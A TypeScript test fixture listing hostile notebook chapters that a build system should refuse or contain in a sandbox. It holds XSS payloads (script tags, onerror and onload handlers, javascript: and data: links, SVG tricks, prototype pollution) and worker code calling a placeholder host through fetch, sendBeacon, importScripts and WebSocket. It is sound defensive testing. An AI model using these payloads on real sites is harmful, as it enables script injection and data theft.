// Chapters that somebody wrote who means harm: each tries to run in the page's own origin, to reach the network or what the
// browser stores, or to leave a page that cannot be used. A table, to which whoever finds another way adds a row.

/** A hostile chapter. `%ELSEWHERE%` stands for the address of a server that nobody may ask. */
export interface Hostile {
  /** What it tries, in words; its slug is made of them. */
  tries: string;
  /** What is behind the first cell, which makes a machine `m`; for code, see {@linkcode cell}. */
  body: string;
  title?: string;
  /** What the build says, if it refuses the chapter. Otherwise the chapter has a page, and its last cell is run there. */
  refused?: RegExp;
}

/** A cell of this code. */
const cell = (code: string, marks = "") => `\`\`\`ts${marks && ` ${marks}`}\n${code}\n\`\`\`\n`;

/** A cell that shows a drawing, and a film of one. */
const shows = (svg: string, step?: string) =>
  cell(`const view = {
  "text/plain": "words",
  "image/svg+xml": ${JSON.stringify(svg)},${
    step === undefined ? "" : `
  "application/vnd.pinned.steps+json": JSON.stringify([
    { operation: "o", reasons: [], text: "t", svg: ${JSON.stringify(step)}, verdicts: [] },
  ]),`
  }
};
show({ [Symbol.for("Jupyter.display")]: () => view });`);

/** A cell that tries each of these, in a worker's scope, and prints what came of it. */
const attempts = (...tries: string[]) =>
  cell(`const self: any = globalThis;
const elsewhere = "%ELSEWHERE%";
const tried = async (what: () => unknown) => {
  if (!/Worker/.test(self.constructor.name)) return; // the build shall see nothing of it
  try {
    await what();
  } catch {
    return;
  }
};
${tries.map((what) => `await tried(() => ${what});`).join("\n")}
console.log("tried", elsewhere.length);`);

const svg = (inner: string, traits = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg"${traits}>${inner}</svg>`;
const own = `document.documentElement.dataset.owned=1`;

export const hostile: Hostile[] = [
  {
    tries: "a comment that taking types off creates",
    body: cell(`const b: any = m.trace.length; let c: any = 1;
const s = b <!<any>--c ? \`
}); ${own}; void (async function () {
--> \` : 0;
console.log(b, s);`),
    refused: /TS1294/,
  },
  {
    tries: "an end of the script in a string",
    body: cell(
      `console.log("</script><script>${own}</script><!--", "--> \\u2028 ${own}", \`\${1}</pre><img src=x onerror=${own}>\`);`,
    ),
  },
  {
    tries: "a redirection behind a drawing",
    body: shows(`${svg("")}<meta http-equiv="refresh" content="0;url=%ELSEWHERE%">`),
    refused: /<meta> is no part of a drawing/,
  },
  {
    tries: "a script in a drawing",
    body: shows(svg(`<script>${own}</script><script href="%ELSEWHERE%"/>`)),
    refused: /<script> is no part/,
  },
  {
    tries: "an event of a drawing",
    body: shows(svg("", ` onload="${own}"`)),
    refused: /attribute onload is not for drawings/,
  },
  {
    tries: "a page in a step of a film",
    body: shows(
      svg(""),
      svg(`<foreignObject><iframe src="%ELSEWHERE%"></iframe></foreignObject>`),
    ),
    refused: /<foreignObject> is no part/,
  },
  {
    tries: "an animation that makes a link",
    body: shows(svg(`<a><animate attributeName="href" values="javascript:${own}"/></a>`)),
    refused: /<a> is no part/,
  },
  {
    tries: "paint from elsewhere",
    body: shows(svg(`<rect fill="url(%ELSEWHERE%#a)" width="9" height="9"/>`)),
    refused: /is not for drawings/,
  },
  {
    tries: "a drawing that passes for a cell",
    body: shows(svg(`<g class="cell film predict"/>`)),
    refused: /class="cell film predict" is not for drawings/,
  },
  {
    tries: "a drawing that lies over the page",
    body: shows(svg("", ` style="position:fixed;inset:0;z-index:9"`)),
    refused: /attribute style is not for drawings/,
  },
  {
    tries: "a link that is a script",
    body: `[Read on](javascript:${own}) and <javascript:${own}>.\n`,
    refused: /a link to `javascript:` is not for readers/,
  },
  {
    tries: "a page as an address",
    body: `[Read on](data:text/html,<script>${own}</script>).\n`,
    refused: /a link to `data:` is not for readers/,
  },
  {
    tries: "a link to what is hidden",
    body: "[Read on](../.git/config).\n",
    refused: /\.git\/config is hidden/,
  },
  {
    tries: "HTML in prose",
    body: `<script>${own}</script>\n\n<img src=x onerror="${own}"> <svg onload=${own}> ` +
      `<iframe srcdoc="<script>parent.${own}</script>"></iframe> <base href="%ELSEWHERE%"> ` +
      `<details ontoggle=${own} open> <kbd onclick=${own}>\n\n` +
      `<meta http-equiv="refresh" content="0;url=%ELSEWHERE%"><link rel=stylesheet href=%ELSEWHERE%>\n\n` +
      `<form action="%ELSEWHERE%"><input name=q></form><!-- <script>${own}</script> -->\n`,
  },
  {
    tries: "an image from elsewhere",
    body: `![a](%ELSEWHERE%) ![b](data:image/svg+xml,${
      encodeURIComponent(svg("", ` onload=1`))
    })\n`,
  },
  {
    tries: "HTML and a link in the title",
    title: `<img src=x onerror=${own}> [x](javascript:${own}) "><script>${own}</script>`,
    body: "Prose.\n",
  },
  {
    tries: "the end of an attribute",
    body:
      `## "><script>${own}</script>\n\n| a" onclick=${own} x=" | b |\n| - | - |\n| 1 | 2 |\n\n` +
      `\`\`\`predict\n<b onclick=${own}>What?</b>\n- a "><img src=x onerror=${own}>: \`"><i>\`\n` +
      `- b: \`tried\`\n\`\`\`\n\n${cell('console.log("tried");')}`,
  },
  {
    tries: "names that the page uses itself",
    body: `## pinnedMachine\n\n## main\n\n## document\n\n## pinned_strip\n\n${
      cell("console.log(1);", "id=main")
    }\n${cell("console.log(2);", "id=katas")}`,
  },
  {
    tries: "the network",
    body: attempts(
      "self.fetch(elsewhere)",
      "self.fetch(elsewhere, { mode: 'no-cors', keepalive: true })",
      "new self.WebSocket(elsewhere.replace('http', 'ws'))",
      "new self.EventSource(elsewhere)",
      "new self.WebTransport(elsewhere.replace('http', 'https'))",
      "self.importScripts(elsewhere)",
      "{ const x = new self.XMLHttpRequest(); x.open('GET', elsewhere, false); x.send(); }",
      "self.navigator.sendBeacon(elsewhere)",
      "new self.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })",
      "{ self.location.href = elsewhere; }",
      "self.open(elsewhere)",
      "new self.FontFace('f', `url(${'$'}{elsewhere})`).load()",
    ),
  },
  {
    tries: "what the browser stores",
    body: attempts(
      "self.caches.open('hostile').then((it: any) => it.put('/x', new self.Response('x')))",
      "new Promise((_, no) => { self.indexedDB.open('hostile').onerror = no; })",
      "self.localStorage.setItem('hostile', '1')",
      "self.sessionStorage.setItem('hostile', '1')",
      "self.cookieStore.set('hostile', '1')",
      "{ self.document.cookie = 'hostile=1'; }",
      "self.navigator.storage.getDirectory().then((it: any) => it.getFileHandle('x', { create: true }))",
    ),
  },
  {
    tries: "another worker",
    body: attempts(
      "{ const code = `fetch('${'$'}{elsewhere}'); importScripts('${'$'}{elsewhere}')`;" +
        " new self.Worker(self.URL.createObjectURL(new self.Blob([code]))); }",
      "new self.Worker('data:text/javascript,' + encodeURIComponent(`fetch('${'$'}{elsewhere}')`))",
      "new self.Worker(elsewhere)",
      "new self.SharedWorker(elsewhere)",
      "new self.BroadcastChannel('pinned').postMessage('hostile')",
    ),
  },
  {
    tries: "words that are not its own",
    body: attempts(
      `self.postMessage({ kind: "item", cell: 1, item: { kind: "view", text: "t", svg: ${
        JSON.stringify(svg(`<script>${own}</script>`, ` onload="${own}"`))
      } } })`,
      `self.postMessage({ kind: "item", cell: 1, item: { kind: "text", text: "<img src=x onerror=${own}>" } })`,
      `self.postMessage({ kind: "__proto__" })`,
    ),
  },
  {
    tries: "code from text",
    body: attempts(
      `self.eval("${own}")`,
      `new self.Function("${own}")()`,
      `self.setTimeout("${own}")`,
      `self.WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
    ),
  },
  {
    tries: "what all objects share",
    body: cell(`const p: any = Object.prototype;
p.svg = "<script>${own}</script>", p.line = 1e9, p.kernel = "none";
(Array.prototype as any).at = () => ({ kind: "view", svg: p.svg });
console.log("tried");`),
  },
];
